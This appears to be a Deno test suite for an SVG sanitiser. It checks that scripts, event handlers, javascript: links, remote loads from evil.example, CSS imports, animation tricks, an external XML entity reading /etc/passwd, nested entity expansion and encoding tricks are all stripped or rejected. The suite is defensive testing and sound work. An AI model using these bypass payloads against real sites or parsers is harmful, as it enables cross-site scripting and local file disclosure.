import assert from "node:assert/strict";
import { bytesOf, streamOf } from "../../../../testing/streams.ts";
import { cleanDrawing, MAX_DRAWING_BYTES } from "./clean_drawing.ts";
import { cleaned, drawingOf, harmIn } from "./testing.ts";

const RUN = "alert(1)";

/** Each with what is left of the drawing's harmless part: a circle, or nothing at all. */
const attacks: Readonly<Record<string, string>> = {
  "a script": `<script>${RUN}</script>`,
  "a script in another case": `<SCRIPT>${RUN}</SCRIPT><Script>${RUN}</Script>`,
  "a script of another prefix": `<s:script xmlns:s="http://www.w3.org/2000/svg">${RUN}</s:script>`,
  "a script of HTML": `<script xmlns="http://www.w3.org/1999/xhtml">${RUN}</script>`,
  "a prefix of HTML":
    `<h:img xmlns:h="http://www.w3.org/1999/xhtml" src="https://evil.example/x" onerror="${RUN}"/>`,
  "a script from elsewhere": `<script xlink:href="https://evil.example/x.js"/>`,
  "a script within a group": `<g><defs><script type="text/ecmascript">${RUN}</script></defs></g>`,
  "a script in CDATA": `<script><![CDATA[${RUN}]]></script>`,
  "an element in CDATA of a style": `<style><![CDATA[</style><script>${RUN}</script>]]></style>`,
  "an element in a style": `<style>a{}<script>${RUN}</script></style>`,
  "escaped elements in a style": `<style>&lt;/style&gt;&lt;script&gt;${RUN}&lt;/script&gt;</style>`,
  "a handler": `<rect onclick="${RUN}" onload="${RUN}" ONLOAD="${RUN}" onfocusin="${RUN}"/>`,
  "a handler of no list": `<rect onanythingnew="${RUN}"/>`,
  "a handler of a prefix": `<rect e:onload="${RUN}" xmlns:e="http://www.w3.org/2001/xml-events"/>`,
  "an element that handles": `<handler type="application/ecmascript">${RUN}</handler>`,
  "a foreign object":
    `<foreignObject><body xmlns="http://www.w3.org/1999/xhtml"><iframe src="javascript:${RUN}"/></body></foreignObject>`,
  "a foreign object in another case": `<foreignobject><svg onload="${RUN}"/></foreignobject>`,
  "a nested drawing": `<svg onload="${RUN}"><svg><script>${RUN}</script></svg></svg>`,
  "a link that runs": `<a href="javascript:${RUN}"><text>x</text></a>`,
  "a link with a tab in it": `<a xlink:href="java&#9;script:${RUN}"><text>x</text></a>`,
  "a link behind a blank": `<a href="&#32;javascript:${RUN}"><text>x</text></a>`,
  "a link elsewhere": `<a href="https://evil.example/"><text>x</text></a>`,
  "a link without a scheme": `<a href="//evil.example/"><text>x</text></a>`,
  "a link of another prefix":
    `<a l:href="javascript:${RUN}" xmlns:l="http://www.w3.org/1999/xlink"><text>x</text></a>`,
  "a used drawing": `<use href="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=#x"/>`,
  "a used file": `<use xlink:href="https://evil.example/x.svg#x"/>`,
  "a picture from elsewhere": `<image href="https://evil.example/x.png"/>`,
  "a picture that is a drawing": `<image href="data:image/svg+xml,%3Csvg/%3E"/>`,
  "a picture that is a page": `<image xlink:href="data:text/html;base64,PHNjcmlwdD4="/>`,
  "a picture of a filter": `<filter><feImage href="https://evil.example/x.png"/></filter>`,
  "a fill from elsewhere": `<rect fill="url(https://evil.example/x.svg#a)"/>`,
  "a fill from elsewhere in quotes": `<rect fill="url( 'https://evil.example/x.svg#a' )"/>`,
  "a fill in another case": `<rect fill="URL(https://evil.example/x.svg#a)"/>`,
  "a fill with an escape": `<rect fill="u\\72l(https://evil.example/x.svg#a)"/>`,
  "a fill in entities": `<rect fill="&#117;rl(https://evil.example/x.svg#a)"/>`,
  "a fill after a harmless one": `<rect fill="url(#a) url(//evil.example/b)"/>`,
  "a mask from elsewhere": `<rect mask="url(//evil.example/m)" filter="url(x.svg#f)"/>`,
  "a style attribute": `<rect style="fill:red;background:url(//evil.example/x)"/>`,
  "a style attribute with a set": `<rect style="mask-image:image-set('//evil.example/x' 1x)"/>`,
  "an old binding": `<rect style="-moz-binding:url(#x);behavior:url(#y)"/>`,
  "an imported style": `<style>@import "https://evil.example/x.css";</style>`,
  "an imported style in another case": `<style>@IMPORT url(//evil.example/x.css);</style>`,
  "an imported style with an escape": `<style>@\\69mport "//evil.example/x.css";</style>`,
  "an imported style after a comment": `<style>/* x */@import/**/'//evil.example/x.css';</style>`,
  "an imported style in CDATA": `<style><![CDATA[@import '//evil.example/x.css';]]></style>`,
  "an imported style after a broken string":
    `<style>a{b:"\n}@import url(//evil.example/x.css);c{d:"}</style>`,
  "a font from elsewhere":
    `<style>@font-face{font-family:x;src:url(https://evil.example/x.woff)}</style>`,
  "a selector that tells": `<style>rect[id^="a"]{fill:url(//evil.example/a)}</style>`,
  "a style in a style of a prefix":
    `<s:style xmlns:s="http://www.w3.org/2000/svg">@import "//evil.example/x.css";</s:style>`,
  "a set handler": `<set attributeName="onload" to="${RUN}"/>`,
  "a set handler in another case": `<set attributeName="onLoad" to="${RUN}"/>`,
  "a set link": `<a><set attributeName="href" to="javascript:${RUN}"/><text>x</text></a>`,
  "an animated link":
    `<a><animate attributeName="xlink:href" values="javascript:${RUN};#"/><text>x</text></a>`,
  "an animated link of blanks": `<a><animate attributeName=" href " to="javascript:${RUN}"/></a>`,
  "an animation of no name": `<animate to="javascript:${RUN}"/>`,
  "an animated fill": `<animate attributeName="fill" to="url(//evil.example/x)"/>`,
  "an animated style": `<set attributeName="style" to="background:url(//evil.example/x)"/>`,
  "metadata": `<metadata><x:a xmlns:x="urn:x" onload="${RUN}">${RUN}</x:a></metadata>`,
  "an embedded page":
    `<iframe src="javascript:${RUN}"/><embed src="//evil.example"/><object data="x"/>`,
  "sound": `<audio src="//evil.example/x" onerror="${RUN}"/><video src="x" onerror="${RUN}"/>`,
  "a base": `<g xml:base="https://evil.example/"><use href="#x"/></g>`,
};

Deno.test("nothing of a drawing runs or fetches once it is clean, and the rest stays", async (t) => {
  for (const [name, attack] of Object.entries(attacks)) {
    await t.step(name, async () => {
      const drawing = drawingOf(`${attack}<circle r="1"/>`);
      assert.notDeepEqual(harmIn(drawing), []);
      const clean = await cleaned(drawing);
      assert.ok(clean !== undefined);
      assert.deepEqual(harmIn(clean), []);
      assert.match(clean, /<circle r="1"><\/circle><\/svg>$/);
    });
  }
});

Deno.test("a handler, a style and a namespace of the root itself are no way in", async (t) => {
  const roots = [
    ` onload="${RUN}"`,
    ` style="background:url(//evil.example/x)"`,
    ` xmlns:h="http://www.w3.org/1999/xhtml" h:onload="${RUN}"`,
    ` href="javascript:${RUN}" xlink:href="javascript:${RUN}"`,
  ];
  for (const root of roots) {
    await t.step(root, async () => {
      const clean = await cleaned(drawingOf("", root)) ?? "";
      assert.deepEqual(harmIn(clean), []);
      assert.match(clean, /^<svg xmlns="[^"]*" xmlns:xlink="[^"]*" viewBox="0 0 10 10">/);
    });
  }
});

Deno.test("document types, entities, instructions and comments are gone", async (t) => {
  const prologues = {
    "a document type": "<!DOCTYPE svg>",
    "entities": `<!DOCTYPE svg [<!ENTITY a "<script>${RUN}</script>">]>`,
    "an outside entity": '<!DOCTYPE svg [<!ENTITY a SYSTEM "file:///etc/passwd">]>',
    "entities of entities":
      '<!DOCTYPE svg [<!ENTITY b "lol"><!ENTITY a "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">]>',
    "a style sheet": '<?xml-stylesheet href="https://evil.example/x.css"?>',
    "a transformation": '<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="#x"?>',
    "a comment": "<!-- --><!-- <script>-->",
  };
  for (const [name, prologue] of Object.entries(prologues)) {
    await t.step(name, async () => {
      const clean = await cleaned(`${prologue}${drawingOf(`<text>1&amp;a;</text>`)}`) ?? "";
      assert.deepEqual(harmIn(clean), []);
      assert.match(clean, /<text>1&amp;a;<\/text>/);
    });
  }
  await t.step("an entity in use stays a word", async () => {
    const clean = await cleaned(`${prologues.entities}${drawingOf("<text>&a;</text>")}`) ?? "";
    assert.match(clean, /<text>&amp;a;<\/text>/);
  });
});

/** Each character in two bytes. */
function utf16(text: string, isLittleEndian: boolean): Uint8Array {
  const bytes = new DataView(new ArrayBuffer(2 * text.length));
  for (let place = 0; place < text.length; place++) {
    bytes.setUint16(2 * place, text.charCodeAt(place), isLittleEndian);
  }
  return new Uint8Array(bytes.buffer);
}

Deno.test("no encoding hides anything", async (t) => {
  const text = drawingOf(`<script>${RUN}</script><text>é</text>`);
  const latin1 = `<?xml version="1.0" encoding="ISO-8859-1"?>${text}`;
  const files: Readonly<Record<string, Uint8Array>> = {
    "UTF-8 with a mark": new TextEncoder().encode(`\uFEFF${text}`),
    "UTF-16, high byte first": utf16(`\uFEFF${text}`, false),
    "UTF-16, low byte first": utf16(`\uFEFF<?xml version="1.0" encoding="UTF-16"?>${text}`, true),
    "one byte a character": Uint8Array.from(latin1, (character) => character.charCodeAt(0)),
  };
  for (const [name, file] of Object.entries(files)) {
    await t.step(name, async () => {
      assert.equal(await cleaned(file), drawingOf("<text>é</text>"));
    });
  }
});

Deno.test("what no browser would read to its end is unclean", async (t) => {
  const files: Readonly<Record<string, string | Uint8Array>> = {
    "cut off": drawingOf("<g>").slice(0, -7),
    "cut off in a script": `<svg xmlns="http://www.w3.org/2000/svg"><script>${RUN}`,
    "cut off in CDATA": `<svg xmlns="http://www.w3.org/2000/svg"><![CDATA[`,
    "not nested": drawingOf("<g><rect></g></rect>"),
    "an attribute twice": drawingOf('<rect x="1" x="2"/>'),
    "an attribute without quotes": drawingOf("<rect x=1/>"),
    "two drawings": drawingOf("").repeat(2),
    "a sign that XML has not": drawingOf("<text>\u0001</text>"),
    "a number of such a sign": drawingOf("<text>&#0;</text>"),
    "a prefix of nothing": drawingOf("<no:g/>"),
    "a drawing of another namespace": '<svg xmlns="http://www.w3.org/1999/xhtml"/>',
    "an unknown encoding": `<?xml version="1.0" encoding="UTF-7"?>${drawingOf("")}`,
    "another encoding than it says": Uint8Array.of(
      ...new TextEncoder().encode("<svg>"),
      0xe9,
      0x3c,
    ),
    "half of a character at its end": Uint8Array.of(
      ...new TextEncoder().encode(drawingOf("")),
      0xe2,
    ),
    "too many elements within each other": drawingOf("<g>".repeat(501) + "</g>".repeat(501)),
    "too many elements": drawingOf("<g/>".repeat(200_000)),
    "too many attributes": drawingOf(
      `<g ${Array.from({ length: 501 }, (_, index) => `a${index}=""`).join(" ")}/>`,
    ),
    "too much CSS": drawingOf(`<style>${"a{b:c}".repeat(84_000)}</style>`),
    "too much CSS in attributes": drawingOf('<g style="a:url(//x)"/>'.repeat(60_000)),
    "nothing": "",
  };
  for (const [name, file] of Object.entries(files)) {
    await t.step(name, async () => assert.equal(await cleaned(file), undefined));
  }
});

Deno.test("however a drawing is cut into pieces, it becomes the same", async (t) => {
  const text = drawingOf(
    `<style>.a{fill:#f00}</style><script>x</script><text class="a">é &amp; 𝄞<![CDATA[<b>]]></text>`,
  );
  const bytes = new TextEncoder().encode(text);
  const whole = await cleaned(bytes);
  for (const length of [1, 2, 3, 50]) {
    await t.step(`pieces of ${length}`, async () => {
      // The first one has the beginning, as its kind is told by it.
      const pieces = [bytes.slice(0, 60)];
      for (let at = 60; at < bytes.length; at += length) pieces.push(bytes.slice(at, at + length));
      const body = cleanDrawing(streamOf(...pieces), () => {});
      assert.equal(new TextDecoder().decode(await bytesOf(body)), whole);
    });
  }
});

Deno.test("a drawing that is too long breaks off there, and its source is given up", async () => {
  const piece = new TextEncoder().encode(`<g id="${"a".repeat(70_000)}"/>`);
  let read = 0;
  let isGivenUp = false;
  const body = new ReadableStream<Uint8Array>({
    pull(controller): void {
      read += piece.length;
      controller.enqueue(read === piece.length ? new TextEncoder().encode("<svg>") : piece);
    },
    cancel(): void {
      isGivenUp = true;
    },
  });
  const reasons: unknown[] = [];
  await assert.rejects(bytesOf(cleanDrawing(body, (reason) => reasons.push(reason))));
  assert.match(String(reasons), /^UncleanDrawing: More than 5000000 bytes$/);
  assert.ok(isGivenUp);
  assert.ok(read < MAX_DRAWING_BYTES + 5 * piece.length, `${read} bytes`);
});
